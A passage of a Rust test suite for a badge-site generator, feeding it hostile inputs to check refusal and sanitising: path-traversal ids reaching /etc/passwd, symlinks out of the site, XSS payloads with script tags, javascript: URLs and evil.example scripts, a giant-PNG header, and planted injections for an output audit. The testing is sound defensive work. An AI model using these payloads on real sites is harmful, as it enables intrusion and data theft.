        "a harmless animation and an unknown element are dropped with a warning",
        text(BADGE_SVG, |s| {
            s.replacen(
                "<title>",
                "<pwn-svg>x</pwn-svg><circle r=\"1\"><animate attributeName=\"r\" values=\"1;9\"/></circle><title>",
                1,
            )
        }),
        &["image.dropped", "image.dropped"],
        Some("A Skill"),
    ));
    cases.push(built(
        c,
        "editor metadata is dropped silently",
        text(BADGE_SVG, |s| {
            s.replacen(
                "<svg ",
                "<svg xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" inkscape:version=\"1.3\" ",
                1,
            )
            .replacen("<title>", "<!-- pwn --><metadata><pwn-rdf/></metadata><inkscape:pwn/><title>", 1)
        }),
        &[],
        Some("A Skill"),
    ));
    cases.push(refused(c, "not XML at all", write(BADGE_SVG, "<svg <<<"), &["image.format"], BADGE, Some("image")));
    cases.push(refused(
        c,
        "a PNG header claiming 100,000 × 100,000 pixels",
        Arc::new(|s: &Path| {
            let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
            let mut ihdr = Vec::new();
            ihdr.extend(100_000u32.to_be_bytes());
            ihdr.extend(100_000u32.to_be_bytes());
            ihdr.extend([8, 6, 0, 0, 0]);
            png.extend((ihdr.len() as u32).to_be_bytes());
            let mut chunk = b"IHDR".to_vec();
            chunk.extend(&ihdr);
            png.extend(&chunk);
            png.extend(crc32(&chunk).to_be_bytes());
            std::fs::write(s.join("badges/skill.png"), png).unwrap();
            std::fs::remove_file(s.join(BADGE_SVG)).unwrap();
            edit(BADGE, |v| v["image"] = json!(format!("{B}badges/skill.png")))(s);
        }),
        &["image.size"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "an SVG issuer image with a script",
        text("issuers/acme.svg", |s| s.replacen("</svg>", "<script>pwn()</script></svg>", 1)),
        &["image.unsafe"],
        ISSUER,
        Some("image"),
    ));
    cases.push(built(
        c,
        "a data: URI PNG badge image is decoded and checked",
        Arc::new(|s: &Path| {
            std::fs::remove_file(s.join(BADGE_SVG)).unwrap();
            let png = accolade::util::hash::base64(
                &std::fs::read(repo().join("tests/fixtures/pixel.png")).unwrap_or_default(),
            );
            edit(BADGE, move |v| v["image"] = json!(format!("data:image/png;base64,{png}")))(s);
        }),
        &[],
        Some("A Skill"),
    ));
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in bytes {
        crc ^= b as u32;
        for _ in 0..8 {
            crc = if crc & 1 != 0 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn unsafe_ids(cases: &mut Vec<Case>) {
    let c = "unsafe ids";
    let id = |name: &str, id: String, codes: &[&'static str]| {
        refused(c, name, set(AWARD, "/id", Value::String(id)), codes, AWARD, Some("id"))
    };
    cases.push(id("../ in the path", format!("{B}assertions/../../etc/passwd.json"), &["id.path"]));
    cases.push(id("%2e%2e in the path", format!("{B}assertions/%2e%2e/%2E%2E/x.json"), &["id.path"]));
    cases.push(id("a backslash", format!("{B}assertions\\..\\x.json"), &["id.path", "issuer.policy"]));
    cases.push(id("an encoded slash", format!("{B}assertions/a%2fb.json"), &["id.path"]));
    cases.push(id("a Windows device name", format!("{B}assertions/con.json"), &["id.path"]));
    cases.push(id("a Windows device name with an extension", format!("{B}assertions/nul.txt.json"), &["id.path"]));
    cases.push(id("a file: URL", "file:///etc/passwd".to_string(), &["id.iri", "issuer.policy"]));
    // Not hosted by the site, so it would never verify (and not the issuer's).
    cases.push(id(
        "an id on another host",
        "https://evil.example/assertions/ada.json".into(),
        &["id.external", "issuer.policy"],
    ));
    cases.push(id(
        "an http id on an https site",
        format!("{B}assertions/ada.json").replacen("https:", "http:", 1),
        &["id.external", "issuer.policy"],
    ));
    cases.push(refused(
        c,
        "a badge class id on another host",
        Arc::new(|s: &Path| {
            let moved = json!("https://evil.example/badges/skill.json");
            set(BADGE, "/id", moved.clone())(s);
            set(AWARD, "/badge", moved.clone())(s);
            set(OTHER_AWARD, "/badge", moved.clone())(s);
        }),
        &["id.external"],
        BADGE,
        Some("id"),
    ));
    cases.push(refused(
        c,
        "an issuer id on another host",
        Arc::new(|s: &Path| {
            let moved = json!("https://evil.example/issuers/acme.json");
            set(ISSUER, "/id", moved.clone())(s);
            set(BADGE, "/issuer", moved.clone())(s);
            set(REVOCATIONS, "/issuer", moved.clone())(s);
        }),
        // Its policy (by default its id's host) no longer covers the awards.
        &["id.external", "issuer.policy"],
        ISSUER,
        Some("id"),
    ));
    cases.push(id("an absolute path", "/etc/passwd".to_string(), &["id.iri", "issuer.policy"]));
    cases.push(id("a NUL in the path", format!("{B}assertions/a%00b.json"), &["id.path"]));
    cases.push(id("a 300-character file name", format!("{B}assertions/{}.json", "a".repeat(300)), &["id.path"]));
    cases.push(id("not ending in .json", format!("{B}assertions/ada"), &["id.path"]));
    cases.push(id("a query", format!("{B}assertions/ada.json?x=../../y"), &["id.path"]));
    cases.push(refused(
        c,
        "an id at another award's report file",
        set(OTHER_AWARD, "/id", json!(format!("{B}assertions/ada-skill/verification.json"))),
        &["output.collision"],
        OTHER_AWARD,
        Some("id"),
    ));
    cases.push(refused(
        c,
        "a static file where the feed goes",
        Arc::new(|s: &Path| {
            std::fs::create_dir_all(s.join("static")).unwrap();
            std::fs::write(s.join("static/feed.xml"), "<feed/>").unwrap();
        }),
        &["output.collision"],
        "static/feed.xml",
        None,
    ));
    cases.push(refused(
        c,
        "ids that differ only in case",
        set(OTHER_AWARD, "/id", json!(format!("{B}assertions/ADA-SKILL.json"))),
        &["output.collision"],
        OTHER_AWARD,
        Some("id"),
    ));
    cases.push(refused(
        c,
        "the same id twice",
        set(OTHER_AWARD, "/id", json!(format!("{B}assertions/ada-skill.json"))),
        &["id.duplicate"],
        OTHER_AWARD,
        Some("id"),
    ));
    cases.push(refused(
        c,
        "an id whose page folder would replace a site file",
        Arc::new(|s: &Path| {
            set(ISSUER, "/verification/startsWith", json!(B))(s);
            set(AWARD, "/id", json!(format!("{B}assets/site.css.json")))(s);
        }),
        &["output.collision"],
        AWARD,
        Some("id"),
    ));
}

#[cfg(unix)]
fn symlinks(cases: &mut Vec<Case>) {
    let c = "symlinks";
    let outside = std::env::temp_dir().join("accolade-hostile-outside.json");
    std::fs::write(&outside, r#"{"secret": "ada@example.net"}"#).unwrap();
    cases.push(built(
        c,
        "a file link to outside the site",
        symlink(outside.clone(), "assertions/leak.json"),
        &["file.symlink"],
        None,
    ));
    cases.push(built(
        c,
        "a link to /etc/passwd",
        symlink("/etc/passwd".into(), "badges/passwd.md"),
        &["file.symlink"],
        None,
    ));
    cases.push(built(c, "a folder link to /", symlink("/".into(), "assertions/root"), &["file.symlink"], None));
    cases.push(built(c, "a link loop", symlink("loop".into(), "assertions/loop"), &["file.symlink"], None));
    cases.push(built(
        c,
        "a link to a file inside the site",
        symlink(PathBuf::from("ada-skill.json"), "assertions/copy.json"),
        &["file.symlink"],
        None,
    ));
    cases.push(built(
        c,
        "the static folder linked to /etc",
        Arc::new(|s: &Path| std::os::unix::fs::symlink("/etc", s.join("static")).unwrap()),
        &["file.symlink"],
        None,
    ));
}

#[cfg(not(unix))]
fn symlinks(_cases: &mut Vec<Case>) {}

fn privacy(cases: &mut Vec<Case>) {
    let c = "privacy";
    cases.push(refused(
        c,
        "a plaintext email recipient",
        set(AWARD, "/recipient", json!({"type": "email", "hashed": false, "identity": "ada@example.net"})),
        &["recipient.plaintext"],
        AWARD,
        Some("recipient.identity"),
    ));
    cases.push(refused(
        c,
        "a plaintext email with hashed missing",
        set(AWARD, "/recipient", json!({"type": "email", "identity": "ada@example.net"})),
        &["recipient.hashed"],
        AWARD,
        Some("recipient.hashed"),
    ));
    cases.push(refused(
        c,
        "a plaintext telephone number",
        set(AWARD, "/recipient", json!({"type": "telephone", "hashed": false, "identity": "+15555550100"})),
        &["recipient.plaintext"],
        AWARD,
        Some("recipient.identity"),
    ));
    cases.push(built(c, "an unsalted hash", remove(AWARD, "/recipient/salt"), &["recipient.salt"], None));
    cases.push(built(
        c,
        "a salt shared by two awards",
        Arc::new(|s: &Path| {
            let other: Value = serde_json::from_slice(&std::fs::read(s.join(OTHER_AWARD)).unwrap()).unwrap();
            let salt = other["recipient"]["salt"].clone();
            edit(AWARD, move |v| v["recipient"]["salt"] = salt.clone())(s);
        }),
        &["recipient.salt"],
        None,
    ));
    cases.push(built(
        c,
        "an email in an evidence URL",
        set(AWARD, "/evidence/0/id", json!("https://portfolio.example/?user=someone@example.com")),
        &["privacy.email"],
        None,
    ));
    cases.push(built(
        c,
        "an email in a narrative",
        set(AWARD, "/narrative", json!("Contact me at someone@example.com")),
        &["privacy.email"],
        None,
    ));
    cases.push(built(
        c,
        "an email in an evidence narrative",
        set(AWARD, "/evidence/0/narrative", json!("Reviewed by someone@example.com")),
        &["privacy.email"],
        None,
    ));
    cases.push(refused(
        c,
        "an email as the recipient's name",
        field(AWARD, "/extensions:recipientProfile/name").set("someone@example.com"),
        &["privacy.email"],
        AWARD,
        Some("extensions:recipientProfile.name"),
    ));
    cases.push(refused(
        c,
        "a plaintext mailto: URL recipient",
        set(AWARD, "/recipient", json!({"type": "url", "hashed": false, "identity": "mailto:ada%40example.net"})),
        &["recipient.plaintext"],
        AWARD,
        Some("recipient.identity"),
    ));
    cases.push(refused(
        c,
        "a misspelt private flag",
        set(AWARD, "/evidence/0/accolade:Private", json!(true)),
        &["accolade.flag"],
        AWARD,
        Some("evidence[0].accolade:Private"),
    ));
    cases.push(refused(
        c,
        "a private flag written as a string",
        set(AWARD, "/evidence/0/accolade:private", json!("true")),
        &["accolade.flag"],
        AWARD,
        Some("evidence[0].accolade:private"),
    ));
    cases.push(refused(
        c,
        "a private flag on the assertion instead of its evidence",
        set(AWARD, "/accolade:private", json!(true)),
        &["accolade.flag"],
        AWARD,
        Some("accolade:private"),
    ));
    cases.push(refused(
        c,
        "an unlisted flag on a badge class",
        set(BADGE, "/accolade:unlisted", json!(true)),
        &["accolade.flag"],
        BADGE,
        Some("accolade:unlisted"),
    ));
    cases.push(built(
        c,
        "private evidence with a non-web URL gets no warning that would quote it",
        edit(AWARD, |v| {
            v["evidence"][0]["id"] = json!("git@github.com:school/ada-exam.git");
            v["evidence"][0]["accolade:private"] = json!(true);
        }),
        &[],
        Some("The evidence for this award is private."),
    ));
    cases.push(built(
        c,
        "a mailto evidence link",
        set(AWARD, "/evidence/0/id", json!("mailto:someone@example.com")),
        &["privacy.email"],
        None,
    ));
    cases.push(built(c, "an unlisted award", set(AWARD, "/accolade:unlisted", json!(true)), &[], Some("Ada Lovelace")));
    // The recipient's own address anywhere else in the award: found by
    // hashing every address with the award's salt, so it is refused before
    // it reaches the hosted JSON or a baked image.
    let leak = |name: &str, pointer: &'static str, value: Value, at: &str| {
        refused(c, name, set(AWARD, pointer, value), &["recipient.leak"], AWARD, Some(at))
    };
    cases.push(leak(
        "the recipient's email in the recipient profile",
        "/extensions:recipientProfile/email",
        json!("ada@example.net"),
        "extensions:recipientProfile.email",
    ));
    cases.push(leak(
        "the recipient's email in an extension object",
        "/extensions:note",
        json!({"type": ["Extension"], "text": "Contact Ada at ADA@Example.net"}),
        "extensions:note.text",
    ));
    cases.push(leak(
        "the recipient's email in the narrative",
        "/narrative",
        json!("Awarded to ada@example.net."),
        "narrative",
    ));
    cases.push(leak(
        "the recipient's email URL-encoded in an evidence URL",
        "/evidence/0/id",
        json!("https://portfolio.example/?u=ada%40example.net"),
        "evidence[0].id",
    ));
    cases.push(leak(
        "the recipient's email as an evidence genre",
        "/evidence/0/genre",
        json!("ada@example.net"),
        "evidence[0].genre",
    ));
    cases.push(leak(
        "the recipient's email in a mailto: link",
        "/extensions:links",
        json!(["mailto:ada@example.net"]),
        "extensions:links[0]",
    ));
    cases.push(refused(
        c,
        "the recipient's email as a property name",
        set(AWARD, "/extensions:seen", json!({"ada@example.net": true})),
        &["recipient.leak"],
        AWARD,
        None,
    ));
    cases.push(refused(
        c,
        "any email in the recipient profile",
        set(AWARD, "/extensions:recipientProfile/contact", json!("ada.lovelace@elsewhere.example")),
        &["privacy.email"],
        AWARD,
        Some("extensions:recipientProfile.contact"),
    ));
    cases.push(built(
        c,
        "the recipient's email in private evidence, which is not published",
        edit(AWARD, |v| {
            v["evidence"][0]["narrative"] = json!("Marked script sent to ada@example.net");
            v["evidence"][0]["accolade:private"] = json!(true);
        }),
        &[],
        Some("The evidence for this award is private."),
    ));
}

/// Values the specification constrains, which an outside corpus found taken
/// as they were: `@context`, signed verification, the issuer's email and
/// time zone offsets.
fn constrained_values(cases: &mut Vec<Case>) {
    let c = "constrained values";
    let ob2 = "https://w3id.org/openbadges/v2";
    for (name, context, at) in [
        ("an assertion @context that is a number", json!(2), "@context"),
        ("an assertion @context that is an object", json!({"@vocab": "https://evil.example/#"}), "@context"),
        ("an assertion @context of another vocabulary", json!("https://evil.example/openbadges/v2"), "@context"),
        ("an assertion @context array not led by OB 2.0", json!(["https://evil.example/ctx", ob2]), "@context[0]"),
        ("an assertion @context array with a javascript: item", json!([ob2, "javascript:alert(1)"]), "@context[1]"),
    ] {
        cases.push(refused(c, name, set(AWARD, "/@context", context), &["context"], AWARD, Some(at)));
    }
    cases.push(refused(
        c,
        "a badge class @context that is a number",
        set(BADGE, "/@context", json!(2.0)),
        &["context"],
        BADGE,
        Some("@context"),
    ));
    cases.push(refused(
        c,
        "an issuer @context of another vocabulary",
        set(ISSUER, "/@context", json!("https://www.w3.org/2018/credentials/v1")),
        &["context"],
        ISSUER,
        Some("@context"),
    ));
    cases.push(built(
        c,
        "an OB 2.0 @context alias",
        set(AWARD, "/@context", json!("https://openbadgespec.org/v2/context.json")),
        &["context"],
        None,
    ));
    cases.push(refused(
        c,
        "SignedBadge verification with no signature",
        set(
            AWARD,
            "/verification",
            json!({"type": "SignedBadge", "creator": "https://hostile.example/badges/key.json"}),
        ),
        &["verification.signed"],
        AWARD,
        Some("verification.type"),
    ));
    cases.push(refused(
        c,
        "signed verification (the alias)",
        set(AWARD, "/verification/type", json!("signed")),
        &["verification.signed"],
        AWARD,
        Some("verification.type"),
    ));
    for (name, email) in [
        ("an empty issuer email", ""),
        ("an issuer email that is not an address", "write to us"),
        ("an issuer email that is a javascript: URL", "javascript:alert(1)"),
        ("an issuer email with two @", "a@b@acme.example"),
        ("an issuer email that is markup", "\"><pwn-tag/data-pwn=1>@acme.example"),
        ("an issuer email with a script", "<script>pwn()</script>@acme.example"),
    ] {
        cases.push(refused(c, name, set(ISSUER, "/email", json!(email)), &["issuer.email"], ISSUER, Some("email")));
    }
    // An apostrophe is legal (o'brien@…): published, and escaped wherever shown.
    cases.push(built(
        c,
        "an issuer email with an apostrophe",
        set(ISSUER, "/email", json!("o'pwn-tag'onmouseover=pwn@acme.example")),
        &[],
        None,
    ));
    for (name, key, date) in [
        ("an issuedOn offset of +24:00", "/issuedOn", "2026-01-01T00:00:00+24:00"),
        ("an issuedOn offset of +99:99", "/issuedOn", "2026-01-01T00:00:00+99:99"),
        ("an expires offset of -25:00", "/expires", "2030-01-01T00:00:00-25:00"),
        ("an issuedOn offset with 60 minutes", "/issuedOn", "2026-01-01T00:00:00+05:60"),
    ] {
        cases.push(refused(c, name, set(AWARD, key, json!(date)), &["date.timezone"], AWARD, Some(&key[1..])));
    }
    cases.push(refused(
        c,
        "a revokedOn offset of +24:00",
        set(REVOCATIONS, "/revokedAssertions/0/revokedOn", json!("2026-04-01T09:00:00+24:00")),
        &["date.timezone"],
        REVOCATIONS,
        Some("revokedAssertions[0].revokedOn"),
    ));
}

fn hostile_config(cases: &mut Vec<Case>) {
    let c = "hostile config";
    let s = |v: &str| toml::Value::String(v.to_string());
    cases.push(refused(
        c,
        "base_url javascript:",
        config("base_url", s("javascript:pwn()//")),
        &["config.base_url"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "base_url whose path starts with // (found by fuzzing: 404.html linked to another host)",
        config("base_url", s("https://https://evil.example/badges/")),
        &["config.base_url"],
        CONFIG,
        Some("1:"),
    ));
    cases.push(refused(
        c,
        "base_url with an empty segment",
        config("base_url", s("https://a.example//x/")),
        &["config.base_url"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "base_url with a quote",
        config("base_url", s("https://a.example/x\"onload=\"pwn()/")),
        &["config.base_url"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "base_url without a host",
        config("base_url", s("https:///x/")),
        &["config.base_url"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "a language that is not a tag",
        config("language", s("en\"><script>")),
        &["config.language"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "a CNAME with a newline",
        config("cname", s("a.example\nb.example")),
        &["config.cname"],
        CONFIG,
        None,
    ));
    cases.push(refused(
        c,
        "a non-numeric LinkedIn id",
        config("sharing.linkedin_organization_id", s("1&pwn=1")),
        &["config.syntax"],
        CONFIG,
        Some("10:"),
    ));
    cases.push(refused(c, "an unknown key", config("titel", s("x")), &["config.syntax"], CONFIG, Some("4:1")));
    cases.push(refused(
        c,
        "a wrong type",
        config("title", toml::Value::Integer(7)),
        &["config.syntax"],
        CONFIG,
        Some("4:9"),
    ));
}

// ---------------------------------------------------------------- running

fn run(case: &Case) -> Result<(), String> {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site");
    copy_tree(&repo().join("tests/fixtures/hostile"), &site);
    (case.setup)(&site);
    let before = snapshot(&site);
    let out = tmp.path().join("public");
    let overrides = accolade::Overrides { base_url: None, output: Some(out.clone()), signing_key: None };
    let loaded = accolade::Site::load(&site, &overrides);
    let problems: Vec<accolade::Problem> = match &loaded {
        Ok(s) => s.problems.0.clone(),
        Err(e) => e.0 .0.clone(),
    };
    for p in &problems {
        let shown = p.to_string();
        if shown.chars().any(|c| c.is_control() && c != '\n') {
            return Err(format!("a problem message carries a control character: {shown:?}"));
        }
    }
    let list = || problems.iter().map(|p| p.to_string()).collect::<Vec<_>>().join("\n");
    match (&case.expect, loaded) {
        (Expect::Refused { codes, file, at }, Err(_)) => {
            let found: BTreeSet<&str> = problems.iter().filter(|p| p.is_error()).map(|p| p.code.as_str()).collect();
            let expected: BTreeSet<&str> = codes.iter().copied().collect();
            if found != expected {
                return Err(format!("expected errors {expected:?}, got:\n{}", list()));
            }
            let first = problems.iter().find(|p| p.is_error() && p.code == codes[0]).unwrap();
            if first.file != *file {
                return Err(format!("expected the error to name {file}, got:\n{}", list()));
            }
            if let Some(at) = at {
                let position = format!("{}:{}", first.line.unwrap_or(0), first.column.unwrap_or(0));
                let path = first.json_path.clone().unwrap_or_default();
                if !(position.starts_with(at.as_str()) || path == *at) {
                    return Err(format!("expected the error at {at}, got:\n{}", list()));
                }
            }
            if out.exists() {
                return Err("a refused site wrote output".into());
            }
        }
        (Expect::Refused { codes, .. }, Ok(_)) => {
            return Err(format!("expected {codes:?} but the site loaded; problems:\n{}", list()));
        }
        (Expect::Built { .. }, Err(_)) => return Err(format!("expected a build, got:\n{}", list())),
        (Expect::Built { warnings, shown }, Ok(loaded_site)) => {
            let found: BTreeSet<&str> = problems.iter().map(|p| p.code.as_str()).collect();
            let expected: BTreeSet<&str> = warnings.iter().copied().collect();
            if found != expected {
                return Err(format!("expected warnings {expected:?}, got:\n{}", list()));
            }
            loaded_site.build().map_err(|e| format!("the build failed: {e:#}"))?;
            let secrets: Vec<String> = EMAILS.iter().map(|e| e.to_string()).collect();
            let findings = audit(&out, &secrets);
            if !findings.is_empty() {
                return Err(format!("the output audit found:\n{}", findings.join("\n")));
            }
            if let Some(shown) = shown {
                if !visible_text(&out).contains(shown.as_str()) {
                    return Err(format!("{shown:?} is not shown as text on any page"));
                }
            }
            let beside: Vec<String> = std::fs::read_dir(tmp.path())
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into())
                .collect();
            if beside.len() != 2 {
                return Err(format!("the build left files beside the output: {beside:?}"));
            }
        }
    }
    if snapshot(&site) != before {
        return Err("the site folder changed".into());
    }
    Ok(())
}

#[test]
fn hostile_corpus() {
    use rayon::prelude::*;
    let cases = corpus();
    let names: BTreeSet<(&str, &str)> = cases.iter().map(|c| (c.category, c.name.as_str())).collect();
    assert_eq!(names.len(), cases.len(), "two cases share a name");
    let results: Vec<(&Case, Result<(), String>)> = cases
        .par_iter()
        .map(|case| {
            let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run(case)))
                .unwrap_or_else(|panic| Err(format!("panicked: {}", panic_text(&panic))));
            (case, result)
        })
        .collect();
    let mut per_category: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut failures = Vec::new();
    for (case, result) in &results {
        let entry = per_category.entry(case.category).or_default();
        entry.0 += 1;
        if let Err(e) = result {
            entry.1 += 1;
            failures.push(format!("[{}] {}: {}", case.category, case.name, e));
        }
    }
    for (category, (total, failed)) in &per_category {
        println!("{category:32} {total:4} cases, {failed} failed");
    }
    println!("{:32} {:4} cases", "total", cases.len());
    assert!(failures.is_empty(), "{} of {} cases failed:\n\n{}", failures.len(), cases.len(), failures.join("\n\n"));
    assert!(cases.len() >= 150);
}

fn panic_text(panic: &Box<dyn std::any::Any + Send>) -> String {
    panic
        .downcast_ref::<String>()
        .cloned()
        .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
        .unwrap_or_else(|| "(no message)".into())
}

/// The audit itself can fail: each kind of injection, planted in a real
/// output, is found.
#[test]
fn the_audit_finds_planted_injections() {
    let (_site, _tmp, out) = build(&repo().join("tests/fixtures/hostile"), None);
    let page = out.join("assertions/ada-skill/index.html");
    let clean = std::fs::read_to_string(&page).unwrap();
    let secrets = vec![EMAILS[0].to_string()];
    assert_eq!(audit(&out, &secrets), Vec::<String>::new());
    let plants: &[(&str, &str)] = &[
        ("<main", "<pwn-tag></pwn-tag><main"),
        ("<main", "<img src=x onerror=alert(1)><main"),
        ("<main", "<a href=\"javascript:alert(1)\">x</a><main"),
        ("<main", "<a href=\" JaVa\tScript:alert(1)\">x</a><main"),
        ("<main", "<a href=\"//evil.example/\">x</a><main"),
        ("<main", "<script>alert(1)</script><main"),
        ("<main", "<script src=\"https://evil.example/x.js\"></script><main"),
        ("<main", "<iframe src=\"https://evil.example/\"></iframe><main"),
        ("<main", "<div style=\"color:red\"></div><main"),
        ("<main", "<p>ada@example.net</p><main"),
        ("<main", "<p>54439</p><main"),
        ("http-equiv=\"Content-Security-Policy\"", "http-equiv=\"X-Nothing\""),
        ("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    ];
    for (anchor, planted) in plants {
        assert!(clean.contains(anchor), "{anchor}");
        std::fs::write(&page, clean.replacen(anchor, planted, 1)).unwrap();
        assert!(!audit(&out, &secrets).is_empty(), "the audit missed {planted}");
    }
    std::fs::write(&page, &clean).unwrap();
    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    std::fs::write(out.join("feed.xml"), feed.replacen("<title>", "<title><pwn/>", 1)).unwrap();
    assert!(!audit(&out, &secrets).is_empty(), "the audit missed an element in the feed");
    std::fs::write(out.join("feed.xml"), feed.replacen("</feed>", "", 1)).unwrap();
    assert!(!audit(&out, &secrets).is_empty(), "the audit missed a broken feed");
    std::fs::write(out.join("feed.xml"), &feed).unwrap();
    let svg = std::fs::read_to_string(out.join("badges/skill.svg")).unwrap();
    std::fs::write(
        out.join("badges/skill.svg"),
        svg.replacen("</svg>", "<set attributeName=\"onclick\" to=\"x\"/></svg>", 1),
    )
    .unwrap();
    assert!(!audit(&out, &secrets).is_empty(), "the audit missed an animation in an SVG");
}

/// Evidence marked `accolade:private` is in no output file; the page says
/// that it exists. The other evidence item stays.
#[test]
fn private_evidence_is_not_published() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site");
    copy_tree(&repo().join("tests/fixtures/hostile"), &site);
    edit(AWARD, |v| {
        let mut public = v["evidence"][0].clone();
        public["accolade:private"] = json!(false);
        let private = json!({
            "id": "git@drive.example:private-notebook-7f3a",
            "name": "Marked exam script",
            "narrative": "Graded 71/100 by the second examiner.",
            "accolade:private": true,
        });
        v["evidence"] = json!([private, public]);
    })(&site);
    // The baked images too: the ones the site writes per award when asked to.
    let toml = site.join("accolade.toml");
    let text = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(&toml, format!("{text}\n[per_award_files]\nbaked_images = true\n")).unwrap();
    let (_site, _t, out) = build(&site, None);
    for file in files(&out) {
        let text = String::from_utf8_lossy(&std::fs::read(out.join(&file)).unwrap()).into_owned();
        for secret in ["private-notebook-7f3a", "Marked exam script", "second examiner", "accolade:private"] {
            assert!(!text.contains(secret), "{file} publishes {secret}");
        }
    }
    let page = std::fs::read_to_string(out.join("assertions/ada-skill/index.html")).unwrap();
    assert!(page.contains("1 more evidence item is private."), "the page says private evidence exists");
    assert!(page.contains("https://github.com/ada/project"), "public evidence stays");
    let hosted: Value = serde_json::from_slice(&std::fs::read(out.join("assertions/ada-skill.json")).unwrap()).unwrap();
    assert_eq!(hosted["evidence"].as_array().map(Vec::len), Some(1));
    let baked =
        accolade::art::bake::unbake(&std::fs::read(out.join("assertions/ada-skill/badge.png")).unwrap()).unwrap();
    assert!(!baked.contains("private-notebook"), "the baked image carries private evidence");

    // All evidence private: the key is gone from the hosted JSON.
    edit(AWARD, |v| v["evidence"] = json!({"id": "https://drive.example/x", "accolade:private": true}))(&site);
    let (_site, _t2, out) = build(&site, None);
    let hosted: Value = serde_json::from_slice(&std::fs::read(out.join("assertions/ada-skill.json")).unwrap()).unwrap();
    assert!(hosted.get("evidence").is_none());
    let page = std::fs::read_to_string(out.join("assertions/ada-skill/index.html")).unwrap();
    assert!(page.contains("The evidence for this award is private."));
}
